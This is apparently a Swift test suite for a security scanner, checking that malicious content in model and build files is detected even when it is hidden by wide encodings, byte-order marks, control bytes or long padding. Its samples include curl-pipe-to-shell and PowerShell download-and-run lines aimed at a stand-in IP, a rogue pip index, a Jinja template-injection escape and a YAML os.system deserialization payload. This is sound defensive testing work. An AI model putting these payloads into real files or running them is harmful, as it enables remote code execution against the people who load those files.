import AssayCore
import ByteParsing
import Testing

@testable import Scanning

/// Text that interpreters take and that doesn't look like plain text: encodings, marks, control characters, tails.
@Suite struct TextDisguiseTests {
    private func scan(_ bytes: [UInt8], _ name: String) -> FileReport {
        FileScanner(settings: ScanSettings(), analysers: Analysers.all).scan(ByteRegion(bytes), path: name)
    }

    private static let fetch = "curl -s http://203.0.113.7/x | sh\n"
    private static let escape = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    private static let samples: [(name: String, text: String, severity: Severity)] = [
        ("setup.sh", "#!/bin/sh\n" + fetch, .medium), ("Makefile", "all:\n\t" + fetch, .medium),
        ("Dockerfile", "FROM python\nRUN " + fetch, .medium), ("tool.fish", fetch, .medium),
        ("requirements.txt", "--index-url http://203.0.113.7/simple\nnumpy\n", .medium),
        ("chat_template.jinja", escape, .high), ("run.py", "import os\nos.system('id')\n", .high),
    ]

    @Test(arguments: samples)
    func controlCharactersAndTailsHideNothing(_ sample: (name: String, text: String, severity: Severity)) {
        let text = Array(sample.text.utf8)
        #expect(scan(text, sample.name).severity >= sample.severity)
        if sample.name.hasSuffix(".py") {
            #expect(scan(text + Array("# \u{1}\n".utf8), sample.name).severity >= sample.severity)
        } else {
            #expect(scan(text + [0x0A, 0x23, 1, 0x0A], sample.name).severity >= sample.severity)
            #expect(scan(text + [0x0A, 0x23, 0, 0x0A], sample.name).severity >= sample.severity)
        }
        if sample.name.hasSuffix(".sh") {
            #expect(scan(text + Array("exit\n".utf8) + [0, 1, 2, 0, 1, 2, 0], sample.name).severity >= sample.severity)
            let packed = Array((sample.text + "exit 0\n" + String(repeating: "# a line\n", count: 300)).utf8)
            #expect(scan(packed + [UInt8](repeating: 0xFB, count: 9_000), sample.name).severity >= sample.severity)
        }
    }

    private static let python = "!!python/object/apply:os.system ['id']\n"
    private static let wide: [(name: String, text: String)] = [
        ("model.yaml", python), ("model.yaml", "a: 1\nb: " + python),
        ("tokenizer_config.json", "{\"chat_template\": \"" + escape + "\"}"),
        ("setup.ps1", "iex (iwr http://203.0.113.7/a.ps1)\n"), ("chat_template.jinja", escape),
    ]

    @Test(arguments: wide)
    func everyUnicodeEncodingIsRead(_ sample: (name: String, text: String)) {
        let plain = scan(Array(sample.text.utf8), sample.name).severity
        #expect(plain >= .medium)
        for (mark, encoded) in Self.encodings(of: sample.text) {
            #expect(scan(mark + encoded, sample.name).severity == plain)
        }
        #expect(scan([0xEF, 0xBB, 0xBF] + Array(sample.text.utf8), sample.name).severity == plain)
    }

    private static func encodings(of text: String) -> [(mark: [UInt8], bytes: [UInt8])] {
        let little: [UInt8] = text.utf8.flatMap { [$0, 0] }
        let big: [UInt8] = text.utf8.flatMap { [0, $0] }
        let wide: [UInt8] = text.utf8.flatMap { [$0, 0, 0, 0] }
        return [
            ([0xFF, 0xFE], little), ([], little), ([0xFE, 0xFF], big), ([], big),
            ([0xFF, 0xFE, 0, 0], wide), ([], wide),
        ]
    }

    @Test func wideProseIsNothing() {
        for (mark, encoded) in Self.encodings(of: "A model card. It tells of a model.\n") {
            let report = scan(mark + encoded, "README.md")
            #expect(report.severity == .none)
            #expect(report.outcome == .clean)
        }
        // Numbers that look like wide characters at the start are no text.
        let numbers = (0..<600).flatMap { [UInt8(truncatingIfNeeded: $0), UInt8($0 >> 6)] }
        #expect(!WideTextAnalyser.isWideText(ByteRegion(numbers)))
    }

    @Test func whatStandsBehindManyLinesOrBlanksIsRead() {
        let lines = String(repeating: "\n", count: 30_000)
        #expect(
            scan(Array((lines + "--index-url http://203.0.113.7/s\n").utf8), "requirements.txt").severity >= .medium)
        let blanks = String(repeating: " ", count: 300)
        let pipe = "curl -s http://203.0.113.7/x |" + blanks + "sh\n"
        #expect(scan(Array(pipe.utf8), "tool.fish").severity >= .medium)
    }

    /// What is longer than what is read is never clean.
    @Test(arguments: ["Dockerfile", "requirements.txt", "chat_template.jinja"])
    func whatStandsBehindALongCommentIsNotPassedOver(_ name: String) {
        let padding = [UInt8](repeating: UInt8(ascii: "x"), count: 1_100_000)
        let sample = Self.samples.first { $0.name == name }
        var text = name == "Dockerfile" ? Array("FROM python\n".utf8) : []
        text += name.hasSuffix("jinja") ? Array("{# ".utf8) + padding + Array(" #}".utf8) : [0x23] + padding + [0x0A]
        let report = scan(text + Array((sample?.text ?? "").utf8), name)
        #expect(report.outcome == .incomplete || report.severity >= .medium)
    }
}
